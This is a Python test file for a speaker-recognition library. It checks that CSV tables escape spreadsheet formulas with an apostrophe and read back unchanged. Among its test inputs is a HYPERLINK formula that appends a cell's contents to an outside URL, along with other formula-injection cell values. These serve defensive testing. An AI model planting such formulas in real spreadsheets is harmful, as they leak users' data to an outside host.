"""Tables: text that a spreadsheet would compute is written with an apostrophe, and every reader of ours undoes that."""

from __future__ import annotations

import csv
import math
import tempfile
from collections.abc import Iterable
from pathlib import Path

import numpy as np
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from xvectors.corpus import Manifest, ScanReport
from xvectors.corpus.findings import Reason
from xvectors.corpus.scanning import Remark, read_left_out
from xvectors.errors import ManifestError
from xvectors.files import tables
from xvectors.files.tables import Table, protected, restored, write_table
from xvectors.trials import Trials, read_trials, score_files, write_trials
from xvectors.trials.score_files import read_scores, write_scores

LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'
NAMES = (LINK, "-5", "+a", "@x", "'quoted'", "'=a", "''+b", "-rf", "=", "\N{FULLWIDTH EQUALS SIGN}1", "ann")
FORMULA_SIGNS = "=+-@\t\r\n\N{FULLWIDTH EQUALS SIGN}\N{FULLWIDTH PLUS SIGN}\N{FULLWIDTH COMMERCIAL AT}"


def cells_of(path: Path) -> list[list[str]]:
    """What another program reads."""
    with path.open(encoding="utf-8", newline="") as text:
        return list(csv.reader(text))


def assert_harmless(cells: Iterable[Iterable[str]]) -> None:
    for row in cells:
        for cell in row:
            if cell.strip(" ")[:1] in tuple(FORMULA_SIGNS):
                float(cell)  # a number, which means itself


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("", ""),
        ("ann", "ann"),
        (LINK, f"'{LINK}"),
        ("+a", "'+a"),
        ("@x", "'@x"),
        ("-x/a.wav", "'-x/a.wav"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("-5", "-5"),
        ("+1.5e-3", "+1.5e-3"),
        ("-inf", "-inf"),
        ("-5+2", "'-5+2"),
        ("-1_000", "'-1_000"),
        ("'quoted'", "'quoted'"),
        ("'=1", "''=1"),
        ("''", "''"),
    ],
)
def test_formulas_get_an_apostrophe_and_lose_it_again(text: str, cell: str) -> None:
    assert protected(text) == cell
    assert restored(cell) == text


@settings(deadline=None, max_examples=200)
@given(st.lists(st.text(st.sampled_from(f"'{FORMULA_SIGNS}a,\"5."), max_size=6), min_size=1, max_size=4))
@example(["'", "''=", "'\n", "''"])
def test_every_table_reads_back_as_it_was(texts: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        write_table(path, ["name", "=column", "n"], [[text, "x", -1.5] for text in texts])
        table = Table(path)
        assert table.header == ["name", "=column", "n"]
        assert [row for block in table.blocks() for row in block] == [[text, "x", "-1.5"] for text in texts]
        assert_harmless(cells_of(path))


def test_corpora_of_hostile_names_read_back_exactly(tmp_path: Path) -> None:
    rows = [{"path": f"{name.replace('/', '_')}/1.wav", "speaker": name, "=note": name} for name in NAMES]
    manifest = Manifest.from_rows(rows, tmp_path)
    manifest.write_csv(tmp_path / "corpus.csv")
    found = Manifest.read_csv(tmp_path / "corpus.csv")
    assert found.speakers == manifest.speakers == tuple(sorted(NAMES))
    np.testing.assert_array_equal(found.speaker_index, manifest.speaker_index)
    assert list(found.path) == [row["path"] for row in rows]
    assert list(found.id) == list(manifest.id)
    assert list(found.extra["=note"]) == list(NAMES)
    assert_harmless(cells_of(tmp_path / "corpus.csv"))
    found.write_csv(tmp_path / "again.csv")
    assert (tmp_path / "again.csv").read_bytes() == (tmp_path / "corpus.csv").read_bytes()


def test_what_a_scan_left_out_reads_back(tmp_path: Path) -> None:
    rejected = [Remark(f"{name}.wav", name, Reason.UNREADABLE, f"{name}: no sound") for name in NAMES]
    report = ScanReport(
        num_utterances=len(NAMES),
        num_speakers=len(NAMES),
        utterances_per_speaker={},
        hours_per_speaker={},
        sample_rates_hz={},
        genders={},
        rejected=rejected,
    )
    report.write_csv(tmp_path / "left_out.csv")
    assert read_left_out(tmp_path / "left_out.csv") == rejected
    assert_harmless(cells_of(tmp_path / "left_out.csv"))


@pytest.mark.parametrize("in_bulk", [False, True])
def test_trials_and_scores_keep_their_names(in_bulk: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    if in_bulk:
        monkeypatch.setattr(score_files, "BULK_BYTES", 0)
    enroll = np.arange(len(NAMES), dtype=np.int32)
    pairs = Trials(enroll=enroll, test=np.roll(enroll, 1), target=enroll % 2 == 0)
    scores = np.linspace(-2.5, 2.5, len(NAMES))
    write_scores(tmp_path / "scores.csv", list(NAMES), pairs, scores, None)
    found = read_scores(tmp_path / "scores.csv")
    assert [found.names[at] for at in found.enroll] == list(NAMES)
    assert [found.names[at] for at in found.test] == list(np.roll(NAMES, 1))
    np.testing.assert_array_equal(found.scores, scores)
    write_trials(tmp_path / "trials.csv", pairs, NAMES)
    listed = read_trials(tmp_path / "trials.csv")
    assert [listed.names[at] for at in listed.enroll] == list(NAMES)
    for name in ("scores.csv", "trials.csv"):
        assert_harmless(cells_of(tmp_path / name))
    # negative scores are numbers to every program
    assert [float(row[3]) for row in cells_of(tmp_path / "scores.csv")[1:]] == pytest.approx(scores)


def test_large_score_files_with_commas_alone_are_read_in_bulk_still(tmp_path: Path) -> None:
    """Names with an apostrophe that protects nothing are no reason to read line by line."""
    from xvectors.trials.score_bulk import Irregular, read_bulk
    from xvectors.trials.score_lines import form_of

    plain, hostile = tmp_path / "plain.csv", tmp_path / "hostile.csv"
    plain.write_text("enroll,test,score,target\n'quoted',o'neil,-1.5,1\n")
    hostile.write_text("enroll,test,score,target\n'=a,b,-1.5,1\n")
    assert read_bulk(plain, form_of(plain)).names == ("'quoted'", "o'neil")
    with pytest.raises(Irregular, match="apostrophe"):
        read_bulk(hostile, form_of(hostile))
    assert read_scores(hostile).names == ("=a", "b")


def outcome(path: Path, in_bulk: bool) -> list[tuple[str, ...]] | str:
    """Return the rows, or the error."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(tables, "BULK_BYTES", 0 if in_bulk else math.inf)
        patch.setattr(tables, "CHUNK_BYTES", 24)
        try:
            return [
                tuple(cell.strip() for cell in row)
                for columns in Table(path).columns()
                for row in zip(*(c if isinstance(c, tuple) else c.to_pylist() for c in columns), strict=True)
            ]
        except ManifestError as error:
            return str(error)


@settings(deadline=None, max_examples=300)
@given(st.text(st.sampled_from("ab,,;\t\"' \r\n\n\xe9\ufeff=\0"), max_size=60), st.sampled_from("\n,\r"))
@example("b,a,c\n\n" + "x,y,z\r\n" * 9 + '"q",y,z\nx,y,"', "\n")
@example("b,a,c\n" + "x,y,z\n" * 9 + "x,y\n", "\n")
@example("b,client_id\n".replace(",", "\t") + 'x\t"y\n' * 9, "\n")
def test_reading_in_bulk_gives_the_same_rows_and_errors(text: str, end: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        path.write_bytes(f"a,b,c\n{text}{end}".encode() if "client_id" not in text else text.encode())
        assert outcome(path, in_bulk=True) == outcome(path, in_bulk=False)


@settings(deadline=None, max_examples=200)
@given(st.lists(st.lists(st.text(st.sampled_from("ab,\t\"' \xe9"), max_size=4), min_size=3, max_size=3), max_size=12))
def test_quoted_tables_are_read_in_bulk_with_the_same_rows(rows: list[list[str]]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        quoting = csv.QUOTE_ALL if len(rows) % 2 else csv.QUOTE_MINIMAL
        with path.open("w", encoding="utf-8", newline="") as text:
            csv.writer(text, quoting=quoting).writerows([["a", "b", "c"], *rows])
        assert outcome(path, in_bulk=True) == outcome(path, in_bulk=False)


@pytest.mark.parametrize(
    ("odd", "num_rows", "num_in_bulk"),
    [('"x, z",y', [9, 9, 8, 9, 6], 5), ('"x\nz",y', [9, 9, 23], 2), ("'=x,y", [9, 9, 23], 2)],
)
def test_tables_are_read_in_bulk_while_they_are_plain(
    odd: str, num_rows: list[int], num_in_bulk: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "BULK_BYTES", 0)
    monkeypatch.setattr(tables, "CHUNK_BYTES", 48)
    path = tmp_path / "t.csv"
    path.write_text('"a","b"\n' + "xx,y\n" * 20 + f"{odd}\n" + "xx,y\n" * 20)
    blocks = list(Table(path).columns())
    assert [len(block[0]) for block in blocks] == num_rows
    assert [not isinstance(block[0], tuple) for block in blocks].count(True) == num_in_bulk
